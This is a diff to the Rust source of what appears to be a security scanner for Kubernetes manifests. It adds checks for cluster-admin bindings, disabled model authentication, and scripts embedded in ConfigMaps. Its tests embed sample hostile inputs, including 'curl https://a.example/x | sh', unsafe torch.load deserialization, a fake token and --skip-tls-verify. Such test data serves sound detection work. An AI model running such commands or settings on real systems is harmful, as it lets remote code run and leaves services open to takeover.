@@ -2,7 +2,9 @@
 
 use super::{containers, models, ray, workflows};
 use crate::ci::github::{gaps, has_key};
-use crate::rules::{self, EXPOSED_SERVICE, SECRET};
+use crate::python::embedded;
+use crate::rules::{self, EXCESSIVE_PERMISSIONS, EXPOSED_SERVICE, NO_AUTHENTICATION, SECRET};
+use crate::shell::inspect::{self, Setting};
 use crate::yaml::{Node, Yaml};
 use crate::{Issue, Notes, Reader, Text, issue};
 use bartizan_core::{Confidence, Kind, Rule, Severity};
@@ -62,18 +64,66 @@ impl Reader for Manifest {
 fn resource(text: &Text<'_>, notes: &mut Notes<'_>, document: Node<'_>) {
     let kind = document.text_of("kind").unwrap_or_default();
     let mut issues = Vec::new();
+    issues.extend(unasked(document));
     match kind {
         "Secret" => issues.extend(secret(document)),
         "Service" => issues.extend(service(document)),
+        "ClusterRoleBinding" | "RoleBinding" => issues.extend(everything(document)),
         "ConfigMap" => {
             for entry in document.get("data").map(Node::entries).unwrap_or_default() {
-                let found = super::properties::issues(entry.value.as_str().unwrap_or_default());
-                issue::report_in(text, notes, entry.value, found);
+                configured(text, notes, entry.name(), entry.value);
             }
         }
         _ => {}
     }
     issue::report(text, notes, issues);
+}
+
+/// An account that may do everything in the cluster, or in its namespace.
+fn everything(document: Node<'_>) -> Option<Issue> {
+    let role = document.path(&["roleRef", "name"]).filter(|role| role.as_str() == Some("cluster-admin"))?;
+    // The system's own groups are bound so by every installer.
+    let of_system = document
+        .get("subjects")
+        .into_iter()
+        .flat_map(Node::items)
+        .all(|subject| subject.text_of("name").is_some_and(|name| name.starts_with("system:")));
+    if of_system {
+        return None;
+    }
+    let whole = document.text_of("kind") == Some("ClusterRoleBinding");
+    let (reach, severity) =
+        if whole { ("in the cluster", Severity::Medium) } else { ("in its namespace", Severity::Low) };
+    let message = format!("whatever runs as this account may do everything {reach}");
+    let issue = Issue::new(&EXCESSIVE_PERMISSIONS, role.span(), message).severity(severity);
+    Some(issue.remedy("Bind a role with the verbs and resources that the pipeline uses."))
+}
+
+/// An annotation by which a platform puts no authentication before a model.
+fn unasked(document: Node<'_>) -> Option<Issue> {
+    let annotations = document.path(&["metadata", "annotations"]).map(Node::entries).unwrap_or_default();
+    let entry = annotations.into_iter().find(|entry| {
+        matches!(entry.name(), "security.opendatahub.io/enable-auth" | "enable-auth")
+            && (entry.value.as_str().is_some_and(|value| value.eq_ignore_ascii_case("false"))
+                || entry.value.as_bool() == Some(false))
+    })?;
+    let message = "the platform asks nobody who they are before the model";
+    Some(Issue::new(&NO_AUTHENTICATION, entry.value.span(), message).severity(Severity::Medium))
+}
+
+/// What a value of a ConfigMap is to whoever mounts it: settings of a server, a script or a program by the ending of its key, or a
+/// variable by its name.
+fn configured(text: &Text<'_>, notes: &mut Notes<'_>, name: &str, value: Node<'_>) {
+    let written = value.as_str().unwrap_or_default();
+    issue::report_in(text, notes, value, super::properties::issues(written));
+    let end = name.rsplit_once('.').map_or("", |(_, end)| end);
+    let found = match end {
+        "sh" | "bash" => inspect::script(written, Setting::Other),
+        "py" => embedded::issues(written),
+        "" => crate::variable::issues(name, written, &(0..written.len())),
+        _ => Vec::new(),
+    };
+    issue::report_in(text, notes, value, found);
 }
 
 fn secret(document: Node<'_>) -> Vec<Issue> {
@@ -176,6 +226,38 @@ mod tests {
                 (19, "host-access")
             ]
         );
+    }
+
+    #[test]
+    fn what_a_config_map_holds_is_read_as_what_it_is() {
+        let text = "apiVersion: v1\nkind: ConfigMap\ndata:\n  token: hf_AbCdEfGhIjKlMnOpQrStUvWxYz01234567\n  start.sh: |\n    set -e\n    curl https://a.example/x | sh\n  load.py: |\n    import torch\n    torch.load('a.pt', weights_only=False)\n  mode: fast\n";
+        assert_eq!(found(text), [(4, "secret"), (7, "curl-pipe-shell"), (10, "unsafe-deserialization")]);
+    }
+
+    #[test]
+    fn a_platform_told_to_ask_nobody_and_a_builder_that_takes_any_certificate_are_found() {
+        let model = |value: &str| {
+            found(&format!(
+                "apiVersion: serving.kserve.io/v1beta1\nkind: InferenceService\nmetadata:\n  annotations:\n    security.opendatahub.io/enable-auth: \"{value}\"\n"
+            ))
+        };
+        assert_eq!((model("false"), model("true")), (vec![(5, "no-authentication")], vec![]));
+        let build = |option: &str| {
+            found(&format!(
+                "apiVersion: tekton.dev/v1\nkind: Task\nspec:\n  steps:\n  - name: push\n    image: a@sha256:aa\n    args: [--destination=acme/model, {option}]\n"
+            ))
+        };
+        assert_eq!((build("--skip-tls-verify"), build("--cache=true")), (vec![(7, "tls-disabled")], vec![]));
+    }
+
+    #[test]
+    fn an_account_that_may_do_everything_is_found() {
+        let bound = |role: &str| {
+            found(&format!(
+                "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nroleRef:\n  kind: ClusterRole\n  name: {role}\nsubjects:\n- kind: ServiceAccount\n  name: trainer\n"
+            ))
+        };
+        assert_eq!((bound("cluster-admin"), bound("view")), (vec![(5, "excessive-permissions")], vec![]));
     }
 
     #[test]
